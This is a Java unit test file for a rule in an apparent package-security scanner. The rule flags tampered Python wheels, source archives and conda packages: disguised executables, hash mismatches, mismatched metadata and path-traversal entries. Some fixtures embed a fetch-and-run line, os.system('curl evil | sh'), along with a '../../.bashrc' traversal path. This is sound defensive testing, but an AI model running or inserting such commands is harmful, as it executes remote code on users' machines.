package io.pkgguard.rules.content;

import static io.pkgguard.rules.Packages.NOW;
import static io.pkgguard.rules.Packages.file;
import static io.pkgguard.rules.Packages.wellKept;
import static io.pkgguard.rules.content.Distributions.binary;
import static io.pkgguard.rules.content.Distributions.hashed;
import static io.pkgguard.rules.content.Distributions.inspected;
import static io.pkgguard.rules.content.Distributions.metadataOf;
import static io.pkgguard.rules.content.Distributions.sdistFile;
import static io.pkgguard.rules.content.Distributions.wheel;
import static io.pkgguard.rules.content.Distributions.wheelFile;
import static org.assertj.core.api.Assertions.assertThat;

import io.pkgguard.api.ArchiveEntry;
import io.pkgguard.api.ArchiveEntry.BinaryFormat;
import io.pkgguard.api.ArchiveProblem;
import io.pkgguard.api.ArchiveProblem.Kind;
import io.pkgguard.api.DistributionFile;
import io.pkgguard.api.Finding;
import io.pkgguard.api.InspectedDistribution;
import io.pkgguard.api.PackageMetadata;
import io.pkgguard.api.RiskCategory;
import io.pkgguard.api.RiskLevel;
import io.pkgguard.core.policy.Policy;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

class DistributionFilesRuleTest {

  private static final String METADATA = metadataOf("pkg", "2.0", "requests>=2");

  private final DistributionFilesRule rule = new DistributionFilesRule();

  private static PackageMetadata index() {
    return wellKept("pkg").requiresDist(List.of("requests >=2")).build();
  }

  private List<Finding> check(InspectedDistribution... files) {
    return check(index(), Map.of(), files);
  }

  private List<Finding> check(
      PackageMetadata metadata, Map<String, ?> parameters, InspectedDistribution... files) {
    return rule.evaluate(Distributions.context(metadata, parameters, "distribution-files", files));
  }

  @Test
  void aConsistentPurePythonWheelIsFine() {
    assertThat(check(wheel("pkg", METADATA, hashed("pkg/__init__.py", "x = 1\n")))).isEmpty();
  }

  @Nested
  class OfferedFiles {

    @Test
    void anExecutableOfferedAsAFileIsHighWhateverTheCaseOfItsExtension() {
      PackageMetadata metadata =
          wellKept("pkg")
              .requiresDist(List.of("requests>=2"))
              .files(
                  List.of(
                      file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW),
                      file("Setup.EXE", DistributionFile.Kind.OTHER, NOW)))
              .build();

      assertThat(check(metadata, Map.of(), wheel("pkg", METADATA)))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
                assertThat(f.category()).isEqualTo(RiskCategory.CONTENT);
                assertThat(f.evidence().values())
                    .containsEntry("file", "Setup.EXE")
                    .containsEntry("extension", ".exe");
              });
    }

    @Test
    void aLegacyInstallerIsHighEvenWithAnUnlistedExtension() {
      PackageMetadata metadata =
          wellKept("pkg")
              .requiresDist(List.of("requests>=2"))
              .files(
                  List.of(
                      file("pkg-2.0.win32.zip", DistributionFile.Kind.INSTALLER, NOW),
                      file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW)))
              .build();

      assertThat(check(metadata, Map.of(), wheel("pkg", METADATA)))
          .singleElement()
          .satisfies(f -> assertThat(f.message()).contains("an installer"));
    }
  }

  @Nested
  class UnusualContents {

    @Test
    void executablesInsideAreMediumButTheLaunchersEveryoneInstallsAreNot() {
      List<Finding> findings =
          check(
              wheel(
                  "pkg",
                  METADATA,
                  binary("pkg/helper.EXE", BinaryFormat.PE),
                  hashed("pkg/run.ps1", "Start-Process x"),
                  binary("pip/_vendor/distlib/t64.exe", BinaryFormat.PE),
                  hashed("pkg/build.sh", "make\n")));

      assertThat(findings)
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.MEDIUM);
                assertThat(f.message())
                    .isEqualTo(
                        "pkg-2.0-py3-none-any.whl contains executables or"
                            + " scripts for other shells: pkg/helper.EXE, pkg/run.ps1");
              });
    }

    @Test
    void nativeBinariesInAPureWheelOrAnSdistAreMediumButNormalInAPlatformWheel() {
      ArchiveEntry elf = binary("pkg/_speed.so", BinaryFormat.ELF);
      ArchiveEntry unnamed = binary("pkg/bin/tool", BinaryFormat.MACH_O);

      assertThat(check(wheel("pkg", METADATA, elf, unnamed)))
          .singleElement()
          .satisfies(
              f ->
                  assertThat(f.message())
                      .isEqualTo(
                          "pkg-2.0-py3-none-any.whl is tagged"
                              + " pure Python but contains native binaries: pkg/_speed.so, pkg/bin/tool"));
      InspectedDistribution platform =
          inspected(
              wheelFile("pkg-2.0-cp312-cp312-manylinux_2_17_x86_64.whl"),
              wheel("pkg", METADATA, elf).entries());
      assertThat(check(platform)).isEmpty();
      assertThat(check(inspected(sdistFile("pkg-2.0.tar.gz"), List.of(elf))))
          .extracting(Finding::message)
          .contains(
              "pkg-2.0.tar.gz is a source archive but contains prebuilt native binaries:"
                  + " pkg/_speed.so");
    }

    @Test
    void aNativeExecutableUnderAHarmlessNameIsHighEvenInAPlatformWheel() {
      InspectedDistribution platform =
          inspected(
              wheelFile("pkg-2.0-cp312-cp312-win_amd64.whl"),
              wheel("pkg", METADATA, binary("pkg/data/readme.txt", BinaryFormat.PE)).entries());

      assertThat(check(platform))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
                assertThat(f.message())
                    .isEqualTo(
                        "pkg-2.0-cp312-cp312-win_amd64.whl hides native"
                            + " executables under harmless names: pkg/data/readme.txt (PE)");
              });
    }

    @Test
    void condaPackagesShipProgramsButNotDisguisedOnes() {
      assertThat(
              check(
                  condaIndex(),
                  Map.of(),
                  conda(
                      binary("lib/libpkg.so", BinaryFormat.ELF),
                      binary("Scripts/pkg.exe", BinaryFormat.PE))))
          .isEmpty();
      assertThat(
              check(condaIndex(), Map.of(), conda(binary("share/pkg/logo.png", BinaryFormat.ELF))))
          .singleElement()
          .satisfies(f -> assertThat(f.message()).contains("share/pkg/logo.png (ELF)"));
    }
  }

  @Nested
  class CondaManifests {

    @Test
    void aConsistentCondaPackageIsFine() {
      assertThat(
              check(
                  condaIndex(),
                  Map.of(),
                  conda(hashed("site-packages/pkg/__init__.py", "x = 1\n"))))
          .isEmpty();
    }

    @Test
    void aFileWhoseBytesDifferFromPathsJsonOrThatItDoesNotListIsHigh() {
      InspectedDistribution good = conda(hashed("site-packages/pkg/__init__.py", "x = 1\n"));
      List<ArchiveEntry> tampered = new ArrayList<>(good.entries());
      tampered.replaceAll(
          e ->
              e.path().equals("site-packages/pkg/__init__.py")
                  ? hashed(e.path(), "import os; os.system('curl evil | sh')\n")
                  : e);
      tampered.add(hashed("site-packages/pkg/extra.py", "print()\n"));
      InspectedDistribution altered =
          new InspectedDistribution(
              good.file(), good.sha256(), good.bytes(), good.format(), tampered, List.of());

      assertThat(check(condaIndex(), Map.of(), altered))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
                assertThat(f.message())
                    .isEqualTo(
                        "pkg-2.0-py_0.tar.bz2 does not match its own manifest: files whose size"
                            + " or hash differs from info/paths.json:"
                            + " site-packages/pkg/__init__.py; files info/paths.json does not"
                            + " list: site-packages/pkg/extra.py");
              });
    }

    @Test
    void anIndexJsonThatDisagreesWithTheChannelIsHigh() {
      PackageMetadata channelSays =
          wellKept("pkg").requiresDist(List.of("python >=3.8", "numpy")).build();
      assertThat(
              check(
                  channelSays, Map.of(), conda(hashed("site-packages/pkg/__init__.py", "x = 1\n"))))
          .singleElement()
          .satisfies(
              f ->
                  assertThat(f.message())
                      .contains(
                          "its info/index.json says dependencies that differ from the channel's"
                              + " (only in the package: requests >=2) (only in the channel:"
                              + " numpy)"));
    }

    @Test
    void aCondaPackageWithoutIndexJsonIsHigh() {
      InspectedDistribution bare =
          new InspectedDistribution(
              file("pkg-2.0-py_0.tar.bz2", DistributionFile.Kind.CONDA, NOW),
              "ab".repeat(32),
              10,
              InspectedDistribution.Format.TAR,
              List.of(hashed("site-packages/pkg/__init__.py", "x = 1\n")),
              List.of());
      assertThat(check(condaIndex(), Map.of(), bare))
          .singleElement()
          .satisfies(f -> assertThat(f.message()).contains("it has no readable info/index.json"));
    }
  }

  /** What the channel says of pkg 2.0: its repodata record's name, version and depends. */
  private static PackageMetadata condaIndex() {
    return wellKept("pkg").requiresDist(List.of("python >=3.8", "requests >=2")).build();
  }

  /** A conda package of pkg 2.0 (build py_0) whose info/ describes exactly {@code files}. */
  private static InspectedDistribution conda(ArchiveEntry... files) {
    List<ArchiveEntry> entries = new ArrayList<>(List.of(files));
    StringBuilder paths = new StringBuilder("{\"paths_version\": 1, \"paths\": [");
    for (int i = 0; i < files.length; i++) {
      paths
          .append(i == 0 ? "" : ",")
          .append("{\"_path\": \"")
          .append(files[i].path())
          .append("\", \"path_type\": \"hardlink\", \"size_in_bytes\": ")
          .append(files[i].size())
          .append(", \"sha256\": \"")
          .append(files[i].sha256().orElseThrow())
          .append("\"}");
    }
    entries.add(hashed("info/paths.json", paths.append("]}").toString()));
    entries.add(
        hashed(
            "info/index.json",
            "{\"name\": \"pkg\", \"version\": \"2.0\", \"build\": \"py_0\","
                + " \"depends\": [\"python >=3.8\", \"requests >=2\"]}"));
    return new InspectedDistribution(
        file("pkg-2.0-py_0.tar.bz2", DistributionFile.Kind.CONDA, NOW),
        "ab".repeat(32),
        10,
        InspectedDistribution.Format.TAR,
        entries,
        List.of());
  }

  @Nested
  class WheelRecords {

    @Test
    void aFileWhoseBytesDoNotMatchRecordIsHigh() {
      InspectedDistribution good = wheel("pkg", METADATA, hashed("pkg/__init__.py", "x = 1\n"));
      List<ArchiveEntry> tampered = new ArrayList<>(good.entries());
      tampered.set(0, hashed("pkg/__init__.py", "import os; os.system('curl evil | sh')\n"));
      tampered.add(hashed("pkg/extra.py", "print()\n"));

      assertThat(check(inspected(good.file(), tampered)))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
                assertThat(f.message())
                    .isEqualTo(
                        "pkg-2.0-py3-none-any.whl's RECORD does not match the"
                            + " wheel: hashes that do not match the contents of pkg/__init__.py; files it does"
                            + " not list: pkg/extra.py");
                assertThat(f.evidence().values()).containsEntry("wrong-hash", "pkg/__init__.py");
              });
    }

    @Test
    void aWheelWithoutRecordOrWithUnhashedFilesIsHigh() {
      InspectedDistribution noRecord =
          inspected(
              wheelFile("pkg-2.0-py3-none-any.whl"),
              List.of(hashed("pkg-2.0.dist-info/METADATA", METADATA)));
      InspectedDistribution unhashed =
          inspected(
              wheelFile("pkg-2.0-py3-none-any.whl"),
              List.of(
                  hashed("pkg-2.0.dist-info/METADATA", METADATA),
                  ArchiveEntry.textFile(
                      "pkg-2.0.dist-info/RECORD",
                      "pkg-2.0.dist-info/METADATA,,\npkg-2.0.dist-info/RECORD,,\n")));

      assertThat(check(noRecord))
          .extracting(Finding::message)
          .containsExactly(
              "pkg-2.0-py3-none-any.whl's RECORD does not match the wheel: the wheel has no"
                  + " .dist-info/RECORD");
      assertThat(check(unhashed))
          .extracting(Finding::message)
          .containsExactly(
              "pkg-2.0-py3-none-any.whl's RECORD does not match the wheel: files listed without a"
                  + " hash: pkg-2.0.dist-info/METADATA");
    }

    @Test
    void hexadecimalDigestsAsSomeRepackagersWriteThemAreUnderstood() {
      ArchiveEntry module = hashed("pkg/__init__.py", "x = 1\n");
      ArchiveEntry metadata = hashed("pkg-2.0.dist-info/METADATA", METADATA);
      InspectedDistribution hex =
          inspected(
              wheelFile("pkg-2.0-py3-none-any.whl"),
              List.of(
                  module,
                  metadata,
                  ArchiveEntry.textFile(
                      "pkg-2.0.dist-info/RECORD",
                      "pkg/__init__.py,sha256="
                          + module.sha256().orElseThrow()
                          + ",6\n"
                          + "pkg-2.0.dist-info/METADATA,sha256="
                          + metadata.sha256().orElseThrow()
                          + ",1\npkg-2.0.dist-info/RECORD,,\n")));

      assertThat(check(hex)).isEmpty();
    }

    @Test
    void quotedRecordPathsAreRead() {
      assertThat(check(wheel("pkg", METADATA, hashed("pkg/a,b.py", "x\n")))).isEmpty();
    }
  }

  @Nested
  class WheelMetadataAgainstTheIndex {

    @Test
    void anotherNameVersionOrDependenciesIsHigh() {
      InspectedDistribution other =
          wheel("pkg", metadataOf("pkg-evil", "2.0.1", "requests>=2", "stealer==1.0"));

      assertThat(check(other))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
                assertThat(f.message())
                    .isEqualTo(
                        "pkg-2.0-py3-none-any.whl's own metadata differs from"
                            + " what the index declares: its name is 'pkg-evil', the index says 'pkg'; its"
                            + " version is '2.0.1', the index says '2.0'; it requires stealer==1.0, which the"
                            + " index does not list");
              });
    }

    @Test
    void spellingDifferencesAreNotDifferences() {
      assertThat(check(wheel("pkg", metadataOf("PKG", "2.0.0", "Requests >= 2")))).isEmpty();
    }

    @Test
    void anIndexThatListsNoDependenciesIsNotComparedWith() {
      PackageMetadata silent = wellKept("pkg").build();
      assertThat(check(silent, Map.of(), wheel("pkg", metadataOf("pkg", "2.0", "x")))).isEmpty();
    }
  }

  @Nested
  class SourceDistributions {

    @Test
    void installingAnSdistIsMediumAndNamesWhatRuns() {
      PackageMetadata sdistOnly =
          wellKept("pkg").files(List.of(sdistFile("pkg-2.0.tar.gz"))).build();
      InspectedDistribution hatch =
          inspected(
              sdistFile("pkg-2.0.tar.gz"),
              List.of(
                  ArchiveEntry.textFile(
                      "pkg-2.0/pyproject.toml",
                      "[project]\nname = 'pkg'\n[build-system]\nrequires = ['hatchling']\n"
                          + "build-backend = \"hatchling.build\"\n")));
      InspectedDistribution legacy =
          inspected(
              sdistFile("pkg-2.0.tar.gz"),
              List.of(
                  ArchiveEntry.textFile(
                      "pkg-2.0/setup.py", "from setuptools import setup\nsetup()\n")));

      assertThat(check(sdistOnly, Map.of(), hatch))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.MEDIUM);
                assertThat(f.message())
                    .isEqualTo(
                        "only a source distribution is available: installing"
                            + " pkg-2.0.tar.gz runs the build backend 'hatchling.build'");
              });
      assertThat(check(index(), Map.of("sdist-only-level", "low"), legacy))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.LOW);
                assertThat(f.message())
                    .isEqualTo(
                        "no wheel installs on the target, so pip would"
                            + " build the source distribution: installing pkg-2.0.tar.gz runs setup.py (no"
                            + " pyproject.toml)");
              });
    }
  }

  @Nested
  class Structure {

    @Test
    void entriesEscapingTheTargetReject() {
      InspectedDistribution hostile =
          inspected(
              sdistFile("pkg-2.0.tar.gz"),
              List.of(ArchiveEntry.textFile("pkg-2.0/setup.py", "")),
              new ArchiveProblem(Kind.PATH_TRAVERSAL, "pkg-2.0/../../.bashrc", "a '..' component"),
              new ArchiveProblem(Kind.LINK_OUTSIDE, "pkg-2.0/k", "a symbolic link to '/etc'"));

      assertThat(check(hostile))
          .filteredOn(f -> f.level() == RiskLevel.CRITICAL)
          .extracting(Finding::message)
          .containsExactly(
              "pkg-2.0.tar.gz holds entries that reach outside the directory it unpacks into:"
                  + " 'pkg-2.0/../../.bashrc' a '..' component; 'pkg-2.0/k' a symbolic link to"
                  + " '/etc'");
    }

    @Test
    void aZipThatReadsDifferentlyFromItsLocalHeadersRejects() {
      InspectedDistribution confusing =
          inspected(
              file("pkg-2.0-py3-none-any.whl", DistributionFile.Kind.WHEEL, NOW),
              List.of(),
              new ArchiveProblem(
                  Kind.AMBIGUOUS_STRUCTURE,
                  "pkg/a.py",
                  "98 bytes after 'pkg/a.py'" + " that no directory entry accounts for"));

      assertThat(check(confusing))
          .filteredOn(f -> f.level() == RiskLevel.CRITICAL)
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.message())
                    .isEqualTo(
                        "pkg-2.0-py3-none-any.whl reads differently"
                            + " depending on the tool that unpacks it, so what was inspected may not be what"
                            + " is installed: 'pkg/a.py' 98 bytes after 'pkg/a.py' that no directory entry"
                            + " accounts for");
                assertThat(f.evidence().values()).containsEntry("problem", "AMBIGUOUS_STRUCTURE");
              });
    }

    @Test
    void hostileNamesAreEscapedAndCounted() {
      List<ArchiveProblem> problems = new ArrayList<>();
      for (int i = 0; i < 5; i++) {
        problems.add(
            new ArchiveProblem(
                Kind.CONTROL_CHARACTERS, "a\u001b[31m" + i + "\n", "control characters"));
      }
      InspectedDistribution odd =
          inspected(
              sdistFile("pkg-2.0.tar.gz"), List.of(), problems.toArray(ArchiveProblem[]::new));

      assertThat(check(odd))
          .filteredOn(f -> f.level() == RiskLevel.HIGH)
          .singleElement()
          .satisfies(
              f ->
                  assertThat(f.message())
                      .isEqualTo(
                          "pkg-2.0.tar.gz holds entry names"
                              + " with control characters (hidden text, terminal escapes): 'a\\u001b[31m0\\n'"
                              + " control characters; 'a\\u001b[31m1\\n' control characters; 'a\\u001b[31m2\\n'"
                              + " control characters; and 2 more"));
    }

    @Test
    void textLeftUnreadIsThePolicysUninspectedLevel() {
      InspectedDistribution big =
          inspected(
              sdistFile("pkg-2.0.tar.gz"),
              List.of(),
              new ArchiveProblem(Kind.NOT_READ, "pkg/big.py", "beyond the text budget"));

      assertThat(check(big))
          .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals("NOT_READ"))
          .singleElement()
          .satisfies(
              f -> {
                assertThat(f.level()).isEqualTo(RiskLevel.HIGH);
                assertThat(f.message()).contains("was not inspected in full");
              });
      assertThat(check(index(), Map.of("uninspected-level", "critical"), big))
          .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals("NOT_READ"))
          .singleElement()
          .satisfies(f -> assertThat(f.level()).isEqualTo(RiskLevel.CRITICAL));
    }

    @Test
    void entriesPastALimitMayBeAnythingSoTheFileIsRejectedUnlessThePolicySaysOtherwise() {
      for (Kind limit :
          List.of(Kind.TOO_MANY_ENTRIES, Kind.TOTAL_TOO_LARGE, Kind.ENTRY_TOO_LARGE)) {
        InspectedDistribution cut =
            inspected(
                sdistFile("pkg-2.0.tar.gz"),
                List.of(),
                new ArchiveProblem(limit, "", "more than the limit"));

        assertThat(check(cut))
            .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals(limit.name()))
            .singleElement()
            .satisfies(
                f -> {
                  assertThat(f.level()).as(limit.name()).isEqualTo(RiskLevel.CRITICAL);
                  assertThat(f.message())
                      .contains(
                          "was not read past an [inspection] limit, so what"
                              + " lies beyond it may be anything");
                });
        assertThat(check(index(), Map.of("truncated-level", "high"), cut))
            .filteredOn(f -> f.evidence().values().getOrDefault("problem", "").equals(limit.name()))
            .singleElement()
            .satisfies(f -> assertThat(f.level()).isEqualTo(RiskLevel.HIGH));
      }
    }
  }

  @Test
  void agreesWithTheBuiltInPolicy() {
    var parameters = Policy.defaults().rule("distribution-files").parameters("distribution-files");
    assertThat(parameters.texts("unusual-extensions", List.of()))
        .isEqualTo(DistributionFilesRule.DEFAULT_UNUSUAL);
    assertThat(parameters.texts("allowed-files", List.of()))
        .isEqualTo(DistributionFilesRule.DEFAULT_ALLOWED);
  }
}
